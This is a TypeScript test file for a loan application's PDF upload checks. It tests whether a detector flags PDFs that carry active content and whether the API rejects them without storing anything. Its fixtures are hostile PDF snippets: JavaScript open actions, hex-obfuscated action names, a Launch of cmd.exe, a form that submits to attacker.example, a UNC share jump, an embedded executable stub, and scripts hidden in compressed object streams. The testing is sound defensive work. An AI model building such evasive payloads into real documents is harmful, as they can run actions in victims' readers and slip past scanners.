import { fileTexts } from "@microfinance/contract/core/files.ts";
import { deflateSync } from "node:zlib";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { type TestApp, testApp } from "../../test-support/app.ts";
import { makeFile, makePayload, sampleFiles, submit } from "../../test-support/make-application.ts";
import { makeCustomer, type Person } from "../../test-support/make.ts";
import { pdfFault } from "./pdf-content.ts";

const pdf = (...parts: (string | Buffer)[]) =>
  Buffer.concat([
    Buffer.from("%PDF-1.7\n"),
    ...parts.map((part) => (typeof part === "string" ? Buffer.from(part, "latin1") : part)),
    Buffer.from("\ntrailer\n<</Root 1 0 R>>\n%%EOF\n"),
  ]);
const object = (dictionary: string) => `1 0 obj\n${dictionary}\nendobj\n`;
const stream = (dictionary: string, data: Buffer | string) =>
  Buffer.concat([
    Buffer.from(`2 0 obj\n${dictionary}\nstream\n`, "latin1"),
    Buffer.from(data),
    Buffer.from("\nendstream\nendobj\n"),
  ]);
const packed = (text: string) => deflateSync(Buffer.from(text));
const script = "1 0 <</S/JavaScript/JS(app.alert(1))>>";
const flate = "<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length 60>>";

describe("LOAN-24 a PDF with actions", () => {
  it.each([
    ["a script", pdf(object("<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>"))],
    ["a script with an encoded name", pdf(object("<</S/J#61va#53cript/JS(1)>>"))],
    ["a script with every letter encoded", pdf(object("<</S /#4a#61#76#61#53#63#72#69#70#74>>"))],
    ["a program to start", pdf(object("<</S/Launch/F(cmd.exe)>>"))],
    ["a form that sends itself", pdf(object("<</S/SubmitForm/F(http://attacker.example)>>"))],
    ["data from elsewhere", pdf(object("<</S/ImportData/F(x.fdf)>>"))],
    ["a jump into another file", pdf(object("<</S/GoToR/F(\\\\\\\\host\\\\share)>>"))],
    ["a form of its own language", pdf(object("<</AcroForm<</XFA 5 0 R>>>>"))],
    ["a film with controls", pdf(object("<</Subtype/RichMedia>>"))],
    ["another file inside", pdf(stream("<</Type/EmbeddedFile/Length 3>>", "MZx"))],
    ["a script in a packed object stream", pdf(stream(flate, packed(script)))],
    [
      "a script in an object stream without its type",
      pdf(stream("<</N 1/First 4/Filter/FlateDecode>>", packed(script))),
    ],
    [
      "a script in an object stream with an encoded type",
      pdf(stream("<</Type/Obj#53tm/N 1/Fi#72st 4/Filter/Flate#44ecode>>", packed(script))),
    ],
    ["a script in a plain object stream", pdf(stream("<</N 1/First 4>>", script))],
    [
      "an encoded name inside a packed object stream",
      pdf(stream(flate, packed("1 0 <</S/JavaScrip#74>>"))),
    ],
    [
      "a dictionary that names another object before its own entries",
      pdf(stream("<</T(9 0 obj)/Type/ObjStm/N 1/First 4/Filter/FlateDecode>>", packed(script))),
    ],
  ])("is detected: %s", (_what, content) => expect(pdfFault(content)).toBe("active"));

  it.each([
    [
      "a page with text and a link",
      pdf(object("<</Type/Page/A<</S/URI/URI(https://bank.example)>>>>")),
    ],
    ["a first view", pdf(object("<</Type/Catalog/OpenAction[3 0 R/Fit]/PageMode/UseOutlines>>"))],
    ["an ordinary object stream", pdf(stream(flate, packed("1 0 <</Type/Page>>")))],
    [
      "bookmarks beside a picture",
      pdf(object("<</First 4 0 R>>"), stream("<</Filter/DCTDecode>>", "\xff\xd8")),
    ],
    ["the word in a text", pdf(stream("<</Length 30>>", "BT (about JavaScript) Tj ET"))],
    ["our smallest PDF", sampleFiles.pdf],
  ])("is not detected in %s", (_what, content) => expect(pdfFault(content)).toBeNull());

  it.each([
    ["a password", "encrypted", pdf(object("<</Encrypt 5 0 R>>"))],
    ["broken data", "unreadable", pdf(stream(flate, "not packed at all"))],
    [
      "data packed twice",
      "unreadable",
      pdf(stream("<</Type/ObjStm/First 4/Filter[/ASCIIHexDecode/FlateDecode]>>", packed(script))),
    ],
    [
      "a predictor",
      "unreadable",
      pdf(stream("<</First 4/Filter/FlateDecode/DecodeParms<</Predictor 12>>>>", packed(script))),
    ],
    [
      "a filter under its short name",
      "unreadable",
      pdf(stream("<</First 4/F/Fl>>", packed(script))),
    ],
    [
      "more than can be looked through",
      "unreadable",
      pdf(stream(flate, packed(" ".repeat(17 * 1024 * 1024)))),
    ],
  ])("is rejected as unverifiable with %s", (_what, fault, content) => {
    expect(pdfFault(content)).toBe(fault);
  });
});

describe("LOAN-24 every call that accepts files rejects such a PDF", () => {
  const active = pdf(object("<</OpenAction<</S/JavaScript/JS(1)>>>>"));
  let test: TestApp;
  let customer: Person;
  beforeAll(async () => {
    test = await testApp();
    customer = await makeCustomer(test.deps);
  });
  afterAll(() => test.close());

  it("an application with its files", async () => {
    const payload = makePayload({ files: [makeFile("salary.pdf", active)] });
    const response = await submit(test, customer, payload);
    expect(response.statusCode).toBe(400);
    expect(response.json().error).toBe(fileTexts.activePdf("salary.pdf"));
  });

  it("one whose object stream stands in the data of another stream, and nothing is stored", async () => {
    const hidden = pdf("9 0 obj\n<</Length 9>>\nstream\n", stream(flate, packed(script)));
    const payload = makePayload({ files: [makeFile("payslip.pdf", hidden)] });
    const response = await submit(test, customer, payload);
    expect(response.statusCode).toBe(400);
    expect(response.json().error).toBe(fileTexts.activePdf("payslip.pdf"));
    const stored = await test.deps.pool.query(
      "select 1 from loans union all select 1 from documents",
    );
    expect(stored.rows).toEqual([]);
  });
});
